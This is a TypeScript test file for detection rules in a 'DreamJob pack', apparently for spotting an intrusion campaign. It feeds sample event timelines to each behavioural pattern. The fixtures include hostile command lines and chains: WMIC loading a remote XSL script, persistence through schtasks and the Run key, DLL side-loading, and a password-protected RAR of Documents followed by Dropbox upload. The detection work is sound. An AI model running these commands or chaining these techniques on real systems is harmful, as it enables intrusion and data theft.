// Each behavioural pattern against a short story that should match it and one that should not.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Observation } from '../../pattern/observation.js';
import { BEHAVIOURS } from './behaviour.js';
import {
  fileObjects,
  libraryLoad,
  matches,
  type Objects,
  processStart,
  timeline,
} from './sample-observations.js';

function url(value: string): Objects {
  return { '0': { type: 'url', value } };
}

/** An HTTP request as Zeek or Suricata report it: the connection with its request line. */
function httpRequest(method: string, path: string, destination: string): Objects {
  return {
    '0': {
      type: 'network-traffic',
      dst_ref: '1',
      protocols: ['ipv4', 'tcp', 'http'],
      extensions: { 'http-request-ext': { request_method: method, request_value: path } },
    },
    '1': { type: 'ipv4-addr', value: destination },
  };
}

/** A finished connection from a workstation that sent `bytes` bytes. */
function upload(destination: string, bytes: number): Objects {
  return {
    '0': {
      type: 'network-traffic',
      src_ref: '1',
      dst_ref: '2',
      src_byte_count: bytes,
      protocols: ['ipv4', 'tcp'],
    },
    '1': { type: 'ipv4-addr', value: '10.20.30.40' },
    '2': { type: 'ipv4-addr', value: destination },
  };
}

function runKey(data: string): Objects {
  return {
    '0': {
      type: 'windows-registry-key',
      key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      values: [{ name: 'IntelGfx', data, data_type: 'REG_SZ' }],
    },
  };
}

function dnsQuery(name: string): Objects {
  return { '0': { type: 'domain-name', value: name } };
}

interface Story {
  matching: Observation[][];
  notMatching: Observation[][];
}

const STORIES: Record<string, Story> = {
  'behaviour:user-launched-program-loads-dll-beside-it': {
    matching: [
      timeline([
        [0, processStart('C:\\Users\\alice\\Downloads\\Offer\\SumatraPDF.exe')],
        [
          1,
          libraryLoad(
            'C:\\Users\\alice\\Downloads\\Offer\\SumatraPDF.exe',
            'C:\\Users\\alice\\Downloads\\Offer\\libmupdf.dll',
          ),
        ],
      ]),
      timeline([
        [0, processStart('E:\\Notepad++.exe')],
        [2, libraryLoad('E:\\Notepad++.exe', 'E:\\SciLexer.dll')],
      ]),
      timeline([
        [0, processStart('C:\\Users\\bob\\AppData\\Local\\Temp\\7zO4A1B2C3D\\Quiz1.exe')],
        [
          1,
          libraryLoad(
            'C:\\Users\\bob\\AppData\\Local\\Temp\\7zO4A1B2C3D\\Quiz1.exe',
            'C:\\Users\\bob\\AppData\\Local\\Temp\\7zO4A1B2C3D\\helper.dll',
          ),
        ],
      ]),
    ],
    notMatching: [
      // Installed software, loading its own DLL.
      timeline([
        [0, processStart('C:\\Program Files\\SumatraPDF\\SumatraPDF.exe')],
        [
          1,
          libraryLoad(
            'C:\\Program Files\\SumatraPDF\\SumatraPDF.exe',
            'C:\\Program Files\\SumatraPDF\\libmupdf.dll',
          ),
        ],
      ]),
      // Started from Downloads, but only system libraries loaded.
      timeline([
        [0, processStart('C:\\Users\\alice\\Downloads\\SumatraPDF.exe')],
        [1, libraryLoad('C:\\Users\\alice\\Downloads\\SumatraPDF.exe', 'C:\\Windows\\System32\\version.dll')],
      ]),
      // The DLL load comes long after.
      timeline([
        [0, processStart('C:\\Users\\alice\\Downloads\\SumatraPDF.exe')],
        [
          600,
          libraryLoad(
            'C:\\Users\\alice\\Downloads\\SumatraPDF.exe',
            'C:\\Users\\alice\\Downloads\\libmupdf.dll',
          ),
        ],
      ]),
    ],
  },
  'behaviour:wordpress-script-contact-then-upload': {
    matching: [
      timeline([
        [0, url('https://kerstpakketten.horesca-meppel.nl/wp-content/plugins/woocommerce/lib.php')],
        [90, upload('178.251.26.65', 2_500_000)],
      ]),
      timeline([
        [0, httpRequest('POST', '/wp-includes/SimplePie/content.php', '199.188.206.75')],
        [300, upload('199.188.206.75', 1_200_000)],
      ]),
    ],
    notMatching: [
      // A WordPress image, not a script.
      timeline([
        [0, url('https://example.org/wp-content/uploads/2024/05/team.jpg')],
        [60, upload('203.0.113.9', 5_000_000)],
      ]),
      // The large transfer goes to a file server inside the network.
      timeline([
        [0, url('https://turnscor.com/wp-includes/contacts.php')],
        [60, upload('192.168.10.5', 50_000_000)],
      ]),
      // Too late.
      timeline([
        [0, url('https://turnscor.com/wp-includes/contacts.php')],
        [3600, upload('203.0.113.9', 5_000_000)],
      ]),
      // The upload came first.
      timeline([
        [0, upload('203.0.113.9', 5_000_000)],
        [60, url('https://turnscor.com/wp-includes/contacts.php')],
      ]),
    ],
  },
  'behaviour:relocated-side-loading-host': {
    matching: [
      timeline([[0, processStart('C:\\ProgramData\\Adobe\\colorcpl.exe')]]),
      timeline([[0, processStart('C:\\ProgramShared\\PresentationHost.exe')]]),
    ],
    notMatching: [
      timeline([[0, processStart('C:\\Windows\\System32\\colorcpl.exe')]]),
      timeline([[0, processStart('C:\\WINDOWS\\SysWOW64\\PresentationHost.exe')]]),
      timeline([[0, processStart('C:\\ProgramData\\Adobe\\AdobeARM.exe')]]),
    ],
  },
  'behaviour:side-loaded-dll-outside-system-folders': {
    matching: [
      timeline([[0, fileObjects('C:\\ProgramShared\\mscoree.dll')]]),
      timeline([
        [0, libraryLoad('C:\\ProgramData\\Adobe\\ARM\\tabcal.exe', 'C:\\ProgramData\\Adobe\\ARM\\HID.dll')],
      ]),
    ],
    notMatching: [
      timeline([[0, fileObjects('C:\\Windows\\System32\\mscoree.dll')]]),
      timeline([[0, libraryLoad('C:\\Windows\\System32\\tabcal.exe', 'C:\\Windows\\System32\\hid.dll')]]),
    ],
  },
  'behaviour:wmic-remote-xsl': {
    matching: [
      timeline([
        [
          0,
          processStart(
            'C:\\Windows\\System32\\wbem\\WMIC.exe',
            'wmic os get /format:"https://www.advantims.com/Sync.xsl"',
          ),
        ],
      ]),
    ],
    notMatching: [
      timeline([
        [0, processStart('C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic os get caption /format:list')],
      ]),
    ],
  },
  'behaviour:program-named-like-a-document': {
    matching: [
      timeline([[0, processStart('/home/bob/Downloads/HSBC job offer.pdf')]]),
      timeline([[0, processStart('C:\\Users\\bob\\Downloads\\Job_Description.docx.exe')]]),
    ],
    notMatching: [
      timeline([
        [
          0,
          processStart('C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe', 'Acrobat.exe offer.pdf'),
        ],
      ]),
    ],
  },
  'behaviour:persistence-into-vendor-root-folder': {
    matching: [
      timeline([[0, runKey('C:\\Intel\\crtutl.exe')]]),
      timeline([
        [
          0,
          processStart(
            'C:\\Windows\\System32\\schtasks.exe',
            'schtasks /create /sc onlogon /tn ProgramLogsSrv /tr "C:\\ProgramLogs\\AdvancedLog.exe"',
          ),
        ],
      ]),
    ],
    notMatching: [
      timeline([
        [
          0,
          runKey(
            '"C:\\Program Files\\Intel\\Intel(R) Management Engine Components\\IMSS\\PrivacyIconClient.exe"',
          ),
        ],
      ]),
      timeline([
        [
          0,
          processStart(
            'C:\\Windows\\System32\\schtasks.exe',
            'schtasks /query /tn "\\Microsoft\\Windows\\Defrag"',
          ),
        ],
      ]),
    ],
  },
  'behaviour:rar-archive-then-dropbox': {
    matching: [
      timeline([
        [
          0,
          processStart(
            'C:\\Program Files\\WinRAR\\rar.exe',
            '"C:\\Program Files\\WinRAR\\rar.exe" a -hpP4ss C:\\Users\\Public\\d.rar C:\\Users\\bob\\Documents',
          ),
        ],
        [300, dnsQuery('content.dropboxapi.com')],
      ]),
    ],
    notMatching: [
      // Someone syncing Dropbox first, then extracting an archive.
      timeline([
        [0, dnsQuery('content.dropboxapi.com')],
        [
          300,
          processStart('C:\\Program Files\\WinRAR\\rar.exe', 'rar x C:\\Users\\bob\\Downloads\\fonts.rar'),
        ],
      ]),
      timeline([
        [
          0,
          processStart(
            'C:\\Program Files\\WinRAR\\rar.exe',
            'rar a C:\\Users\\bob\\backup.rar C:\\Users\\bob\\Documents',
          ),
        ],
        [300, dnsQuery('www.dropbox.com')],
      ]),
    ],
  },
};

describe('behavioural patterns of the DreamJob pack', () => {
  for (const behaviour of BEHAVIOURS) {
    it(behaviour.name, () => {
      const story = STORIES[behaviour.key];
      assert.ok(story !== undefined, `no test story for ${behaviour.key}`);
      for (const [index, observations] of story.matching.entries()) {
        assert.ok(matches(behaviour.pattern, observations), `matching story ${index} did not match`);
      }
      for (const [index, observations] of story.notMatching.entries()) {
        assert.ok(!matches(behaviour.pattern, observations), `story ${index} matched but should not`);
      }
    });
  }

  it('tells every story to a behaviour that exists', () => {
    const keys = new Set(BEHAVIOURS.map((behaviour) => behaviour.key));
    for (const key of Object.keys(STORIES)) assert.ok(keys.has(key), key);
  });
});
